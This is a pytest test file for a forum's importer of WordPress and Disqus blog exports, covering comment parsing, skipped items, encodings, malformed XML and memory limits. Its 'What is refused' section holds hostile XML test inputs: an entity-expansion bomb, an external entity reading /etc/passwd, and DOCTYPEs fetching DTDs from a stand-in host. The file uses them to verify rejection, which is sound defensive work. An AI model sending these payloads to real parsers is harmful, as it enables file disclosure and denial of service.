"""Reading a blog's export: what real files hold that they should not, and what nobody should be able to make it do."""

from __future__ import annotations

import datetime as dt
import io
import tracemalloc
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from forum.importing import blog_xml
from forum.importing.blog import BlogFileBroken, Page, Remark, Skipped, day_of, old_address, person_of, site_of
from forum.importing.disqus import read_disqus
from forum.importing.wordpress import read_wordpress
from tests.forum.blog_files import (
    DISQUS_BEGIN,
    DISQUS_END,
    WXR_BEGIN,
    WXR_END,
    disqus,
    disqus_author,
    disqus_post,
    disqus_thread,
    wxr,
    wxr_comment,
    wxr_item,
)

DAY = dt.date(2019, 5, 6)
Read = Callable[..., Iterator[Page | Remark]]


def pages_and_remarks(text: str | bytes, read: Read) -> tuple[list[Page], list[Remark]]:
    found = list(read(io.BytesIO(text.encode() if isinstance(text, str) else text)))
    return [each for each in found if isinstance(each, Page)], [each for each in found if isinstance(each, Remark)]


def wordpress(text: str | bytes) -> tuple[list[Page], list[Remark]]:
    return pages_and_remarks(text, read_wordpress)


def from_disqus(text: str) -> tuple[list[Page], list[Remark]]:
    return pages_and_remarks(text, read_disqus)


# --- WordPress ----------------------------------------------------------------------------------------------------


def test_a_page_and_its_comments_are_read() -> None:
    (page,), (first, second) = wordpress(
        wxr(wxr_item(7, [wxr_comment(11, "One."), wxr_comment(12, "Two.", name="Bob", parent=11)]))
    )

    assert (page.site, page.key, page.title, page.html) == (
        "evenings.example",
        "7",
        "Why evenings feel long",
        "Some words about evenings.",
    )
    assert page.addresses == ("2019/05/page-7", "blog?p=7")
    assert page.written_on == dt.date(2019, 5, 4)
    assert page.author.names == ("Wrenna Holloway", "wren", "wren@evenings.example")
    assert first == Remark("7", "11", "", person_of("Tilda Farthing", mail="tilda@mail.example"), "One.", DAY, None)
    assert (second.key, second.answers, second.person.key) == ("12", "11", "bob@mail.example")


def test_an_author_is_one_person_however_they_sign() -> None:
    (page,), remarks = wordpress(
        wxr(
            wxr_item(
                1,
                [
                    wxr_comment(1, "By account.", name="W.", user=1, mail=""),
                    wxr_comment(2, "By mail.", name="Somebody", mail="Wren@evenings.example"),
                ],
            )
        )
    )

    assert {remark.person.key for remark in remarks} == {page.author.key}


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"approved": "spam"}, Skipped.SPAM),
        ({"approved": "0"}, Skipped.WAITING),
        ({"approved": "trash"}, Skipped.REMOVED),
        ({"approved": "post-trashed"}, Skipped.REMOVED),
        ({"kind": "pingback"}, Skipped.PING),
        ({"kind": "trackback"}, Skipped.PING),
        ({"kind": ""}, None),
    ],
)
def test_what_was_not_shown_on_the_blog_is_told_apart(changes: dict[str, Any], why: Skipped | None) -> None:
    _pages, (remark,) = wordpress(wxr(wxr_item(1, [wxr_comment(1, "Words.", **changes)])))
    assert remark.skipped == why


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"status": "draft"}, Skipped.NOT_PUBLIC),
        ({"status": "private"}, Skipped.NOT_PUBLIC),
        ({"password": "x"}, Skipped.NOT_PUBLIC),
        ({"status": "trash"}, Skipped.REMOVED),
        ({"kind": "attachment", "status": "inherit"}, Skipped.OTHER_KIND),
        ({"kind": "page"}, None),
    ],
)
def test_a_page_that_was_not_public_takes_its_comments_with_it(changes: dict[str, Any], why: Skipped | None) -> None:
    (page,), (remark,) = wordpress(wxr(wxr_item(1, [wxr_comment(1, "Words.")], **changes)))
    assert (page.skipped, remark.skipped) == (why, why)


def test_a_page_of_the_site_itself_needs_comments_to_be_one() -> None:
    (page,), _remarks = wordpress(wxr(wxr_item(1, kind="page")))
    assert page.skipped == Skipped.OTHER_KIND


def test_shortcodes_are_no_words() -> None:
    (page,), _remarks = wordpress(wxr(wxr_item(1, text='[caption id="a"]A lamp.[/caption] [gallery ids="1,2"][sic]')))
    assert page.html == "A lamp. [sic]"


def test_an_older_file_without_authors_and_kinds_is_read() -> None:
    item = """<item><title>Old &amp; short</title><link>http://www.evenings.example/?p=3</link>
    <dc:creator>wren</dc:creator><content:encoded>Text</content:encoded>
    <wp:comment><wp:comment_author>Tilda</wp:comment_author><wp:comment_content>Hm.</wp:comment_content></wp:comment>
    </item>"""
    (page,), (remark,) = wordpress(
        '<rss xmlns:content="c" xmlns:dc="d" xmlns:wp="http://wordpress.org/export/1.0/"><channel>'
        f"<link>http://www.evenings.example/</link>{item}</channel></rss>"
    )

    assert (page.site, page.key, page.title, page.addresses) == (
        "evenings.example",
        "http://www.evenings.example/?p=3",
        "Old & short",
        (),
    )
    assert (remark.key, remark.person.key, remark.written_on, remark.skipped) == ("", "tilda", None, None)


# --- Disqus -------------------------------------------------------------------------------------------------------


def test_threads_and_posts_are_read() -> None:
    (page,), (first, second) = from_disqus(
        disqus(
            disqus_thread(1),
            disqus_post(10, "<p>One.</p>"),
            disqus_post(11, "<p>Two.</p>", parent=10, author=disqus_author("Bob", mail="bob@mail.example")),
        )
    )

    assert (page.site, page.key, page.addresses, page.author.key) == ("evenings", "1", ("2019/05/page-1",), "@wren")
    assert first == Remark(
        "1", "10", "", person_of("Tilda Farthing", "tildaf", account="@tildaf"), "<p>One.</p>", DAY, None
    )
    assert (second.answers, second.person.names) == ("10", ("Bob", "bob@mail.example"))


def test_what_was_removed_or_has_no_page_is_told_apart() -> None:
    pages, remarks = from_disqus(
        disqus(
            disqus_thread(1),
            disqus_thread(2, deleted=True),
            disqus_post(1, "a", spam=True),
            disqus_post(2, "b", deleted=True),
            disqus_post(3, "c", thread=2),
            disqus_post(4, "d", thread=3),
            disqus_post(5, "e", author=""),
        )
    )

    assert [page.skipped for page in pages] == [None, Skipped.REMOVED]
    assert [remark.skipped for remark in remarks] == [
        Skipped.SPAM, Skipped.REMOVED, Skipped.REMOVED, Skipped.NO_PAGE, None,
    ]  # fmt: skip
    assert remarks[-1].person == person_of()


# --- What real files hold -----------------------------------------------------------------------------------------


def comment_text(text: str | bytes) -> str:
    before, after = wxr(wxr_item(1, [wxr_comment(1, "@@")])).encode().split(b"@@")
    raw = text.encode() if isinstance(text, str) else text
    _pages, (remark,) = wordpress(before + raw + after)
    return remark.html


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("a\x00b\x08c\x0bd\x1fe\x7f", "abcde\x7f"),
        ("a&#8;b&#x1F;c&#0;&#xFFFE;", "abc"),
        ("&nbsp;&eacute;&hellip;", "\u00a0é…"),
        ("&amp;nbsp; &lt;b&gt; &#39;", "&amp;nbsp; &lt;b&gt; &#39;"),  # HTML's, inside CDATA
        ("]]]]><![CDATA[>", "]]>"),
        ("\U0001f49b e\u0301", "\U0001f49b e\u0301"),
        (b"th\xe9 and \xf0\x9f", "th\ufffd and \ufffd"),
        ("&unknown; & AT&T", "&amp;unknown; & AT&T"),
    ],
)
def test_what_xml_forbids_does_not_stop_it(written: str | bytes, read: str) -> None:
    assert comment_text(written) == read


def test_html_names_of_characters_work_outside_cdata_too() -> None:
    text = WXR_BEGIN + "<item><title>Long&nbsp;evenings &LT;</title></item>" + WXR_END
    (page,), _remarks = wordpress(text)
    assert page.title == "Long evenings <"


@pytest.mark.parametrize("place", range(blog_xml._CHUNK - 40, blog_xml._CHUNK + 5))
def test_nothing_is_lost_where_a_piece_of_the_file_ends(place: int) -> None:
    before, after = wxr(wxr_item(1, [wxr_comment(1, "@@")])).split("@@")
    text = "x" * (place - len(before)) + "é&nbsp;&#8;&eacute;\U0001f49b"

    _pages, (remark,) = wordpress(before + text + after)

    assert remark.html.lstrip("x") == "é\u00a0é\U0001f49b"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "iso-8859-1", "windows-1252", "utf-16"])
def test_other_encodings_are_read(encoding: str) -> None:
    declared = "utf-8" if encoding == "utf-8-sig" else encoding
    text = wxr(wxr_item(1, title="Café")).replace('encoding="UTF-8"', f'encoding="{declared}"')
    (page,), _remarks = wordpress(text.encode(encoding))
    assert page.title == "Café"


# --- What is refused ----------------------------------------------------------------------------------------------

BOMB = '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {name} "{f"&{inner};" * 10}">' for inner, name in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    "hostile",
    [
        BOMB + "]><rss>&i;</rss>",
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>',
        '<!DOCTYPE rss SYSTEM "http://192.0.2.1/evil.dtd"><rss/>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]><rss/>',
        "\n<!DOCTYPE html>\n<html></html>",
    ],
)
def test_a_document_type_is_refused_whatever_is_in_it(hostile: str) -> None:
    tracemalloc.start()
    try:
        with pytest.raises(BlogFileBroken) as refused:
            wordpress(hostile)
        assert tracemalloc.get_traced_memory()[1] < 2_000_000
    finally:
        tracemalloc.stop()
    assert refused.value.code == "blog-file-broken"
    assert refused.value.line == hostile[: hostile.index("<!DOCTYPE")].count("\n") + 1


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("", 1),
        ("no xml", 1),
        ("<html></html>", 1),
        (DISQUS_BEGIN + DISQUS_END, 2),  # the other kind
        ("<rss>\n<channel>\n<item>", 3),
        ("<rss>\n<channel>\n</item>", 3),
        ("<rss>\n" + "<a>" * 60, 2),
        ('<?xml version="1.0" encoding="rot13"?><rss/>', 1),
        ('<?xml version="1.0" encoding="unicode_escape"?><rss/>', 1),
    ],
)
def test_a_broken_file_says_where(text: str, line: int) -> None:
    with pytest.raises(BlogFileBroken) as refused:
        wordpress(text)
    assert refused.value.line == line
    assert f"Line {line}:" in str(refused.value.text)


def test_text_without_an_end_is_refused_before_it_fills_the_memory() -> None:
    with pytest.raises(BlogFileBroken):
        wordpress(f"<rss>{'x' * (blog_xml.MAX_TEXT + 1)}</rss>")


# --- Memory -------------------------------------------------------------------------------------------------------


class Endless(io.RawIOBase):
    """A file that is written while it is read."""

    def __init__(self, pieces: Iterator[str]) -> None:
        self._pieces = pieces
        self._left = b""

    def read(self, size: int = -1) -> bytes:
        while len(self._left) < size and (piece := next(self._pieces, "")):
            self._left += piece.encode()
        read, self._left = self._left[:size], self._left[size:]
        return read


def many_wordpress(count: int) -> Iterator[str]:
    yield WXR_BEGIN
    yield from wxr_item(1, (wxr_comment(number, "Words. " * 500) for number in range(1, count + 1)))
    yield WXR_END


def many_disqus(count: int) -> Iterator[str]:
    yield DISQUS_BEGIN + disqus_thread(1)
    yield from (disqus_post(number, "Words. " * 500) for number in range(1, count + 1))
    yield DISQUS_END


@pytest.mark.parametrize(
    ("read", "file"), [(read_wordpress, many_wordpress), (read_disqus, many_disqus)], ids=["wordpress", "disqus"]
)
def test_forty_megabytes_are_read_in_two(read: Read, file: Callable[[int], Iterator[str]]) -> None:
    tracemalloc.start()
    try:
        remarks = sum(isinstance(each, Remark) for each in read(Endless(file(10_000))))
        assert tracemalloc.get_traced_memory()[1] < 2_000_000
    finally:
        tracemalloc.stop()
    assert remarks == 10_000


# --- Small things -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("address", "spelt"),
    [
        ("https://evenings.example/2019/05/Why-Evenings/", "2019/05/why-evenings"),
        ("http://www.evenings.example/2019/05/why-evenings?utm_source=x#comment-4", "2019/05/why-evenings"),
        ("https://evenings.example/caf%C3%A9/", "café"),
        ("https://evenings.example/blog/?p=12&preview=1", "blog?p=12"),
        ("https://evenings.example/?p=12", ""),
        ("https://evenings.example/", ""),
        ("https://[broken/2019/", ""),
        ("", ""),
    ],
)
def test_an_address_has_one_spelling(address: str, spelt: str) -> None:
    assert old_address(address) == spelt


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("2019-05-06 23:41:07", DAY),
        ("2019-05-06T23:41:07Z", DAY),
        ("0000-00-00 00:00:00", None),
        ("2019-02-30 10:00:00", None),
        ("", None),
        ("yesterday", None),
    ],
)
def test_of_a_time_only_the_day_is_kept(text: str, day: dt.date | None) -> None:
    assert day_of(text) == day


def test_people_without_a_name_are_nobody() -> None:
    assert person_of("Anonymous") == person_of("  ") == person_of()
    assert person_of("Jos&eacute; <b>M</b>").names == ("José M",)


def test_the_host_is_the_site() -> None:
    assert site_of("https://www.Evenings.example/x") == "evenings.example"
    assert site_of("https://[broken") == ""
